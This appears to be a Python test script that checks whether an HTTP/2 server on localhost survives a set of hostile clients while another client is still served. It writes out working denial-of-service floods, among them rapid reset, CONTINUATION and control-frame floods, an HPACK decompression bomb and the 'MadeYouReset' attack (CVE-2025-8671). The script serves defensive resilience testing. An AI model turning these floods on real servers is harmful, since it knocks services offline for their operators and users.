"""What hostile clients of HTTP/2 send, frame by frame: each attack says how the server ended it, and meanwhile somebody
else is served. It begins with `frames.py`."""

def flood(raw, make, count, at_once=100):
    for first in range(0, count, at_once):
        if not raw.send(*(make(number) for number in range(first, first + at_once))):
            break
    return raw.end()


def rapid_reset(raw):
    def pair(number):
        stream = number * 2 + 1
        reset = RstStreamFrame(stream)
        reset.error_code = 8
        return type("Both", (), {"serialize": lambda _: raw.head(stream).serialize() + reset.serialize()})()

    return flood(raw, pair, 2000)


def continuation(raw):
    raw.send(raw.head(1, flags=()))
    field = hpack.Encoder().encode([("x-more", "y" * 50)], huffman=False)
    return flood(raw, lambda _: ContinuationFrame(1, data=field), 10_000)


def settings(raw):
    return flood(raw, lambda _: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}), 10_000)


def ping(raw):
    return flood(raw, lambda _: PingFrame(0, opaque_data=b"12345678"), 20_000)


def empty_data(raw):
    raw.send(raw.head(1, flags=("END_HEADERS",), method="POST"))
    return flood(raw, lambda _: DataFrame(1), 20_000)


def priority(raw):
    return flood(raw, lambda number: PriorityFrame(number * 2 + 1, depends_on=0, stream_weight=1), 20_000)


def window_update(raw):
    return flood(raw, lambda _: WindowUpdateFrame(0, window_increment=1), 20_000)


def hpack_bomb(raw):
    """4 KB that are sent once, and then named by a byte each: 16 MB per head."""
    small = HEAD[:3] + [(":path", "/small")]
    apart = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in small]
    first = HeadersFrame(1, flags=["END_HEADERS", "END_STREAM"])
    first.data = raw.encoder.encode([*apart, ("x-bomb", "z" * 4000)], huffman=False)
    raw.send(first)
    heads = raw.encoder.encode(apart) + b"\xbe" * 4000
    for number in range(1, 90):
        frame = HeadersFrame(number * 2 + 1, flags=["END_HEADERS", "END_STREAM"])
        frame.data = heads
        if not raw.send(frame):
            break
    raw.send(GoAwayFrame(0))
    decoder, statuses = hpack.Decoder(), {}
    for frame in raw.frames():
        if isinstance(frame, HeadersFrame):
            statuses[frame.stream_id] = dict(decoder.decode(frame.data))[":status"]
        if isinstance(frame, GoAwayFrame) and frame.error_code:
            return frame.error_code
    assert all(status == "431" for stream, status in statuses.items() if stream > 1), statuses
    return "bounded"


def zero_window(raw):
    """Asks for a lot, and takes nothing: each answer is given up, within the time that clients have to take some."""
    raw.send(*(raw.head(number * 2 + 1) for number in range(100)))
    given_up = set()
    for frame in raw.frames():
        assert not isinstance(frame, DataFrame) or not frame.data, "nothing was allowed"
        if isinstance(frame, RstStreamFrame):
            given_up.add(frame.stream_id)
        if isinstance(frame, GoAwayFrame) or len(given_up) == 100:
            return "bounded"
    return "bounded"


def made_you_reset(raw):
    """Asks, and then lets the server reset the stream by a window that is too large (CVE-2025-8671)."""
    def pair(number):
        stream = number * 2 + 1
        update = WindowUpdateFrame(stream, window_increment=0x7FFFFFFF)
        return type("Both", (), {"serialize": lambda _: raw.head(stream).serialize() + update.serialize()})()

    return flood(raw, pair, 2000)


def broken_off(raw):
    """No attack: an endpoint that breaks off, which its client shall not take for a cancellation."""
    frame = HeadersFrame(1, flags=["END_HEADERS", "END_STREAM"])
    frame.data = raw.encoder.encode([(":method", "GET")] + HEAD[1:3] + [(":path", "/broken")])
    raw.send(frame)
    return next(frame.error_code for frame in raw.frames() if isinstance(frame, RstStreamFrame))


def bystander(port, ca, stop, problems):
    context = ssl.create_default_context(cafile=ca)
    served = 0
    try:
        connection = http.client.HTTPSConnection("localhost", int(port), context=context, timeout=50)
        while not (stop.is_set() and served >= 3):
            connection.request("GET", "/small")
            answer = connection.getresponse()
            assert (answer.status, answer.read()) == (200, b"hello"), answer.status
            served += 1
    except Exception as problem:  # whatever it is, the main thread shall say it
        problems.append(repr(problem))


name, port, ca = sys.argv[1:]
stop, problems = threading.Event(), []
other = threading.Thread(target=bystander, args=(port, ca, stop, problems))
other.start()
try:
    window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if name == "zero_window" else None
    print("ended", globals()[name](Raw(port, ca, window)), flush=True)
finally:
    stop.set()
    other.join()
assert not problems, problems
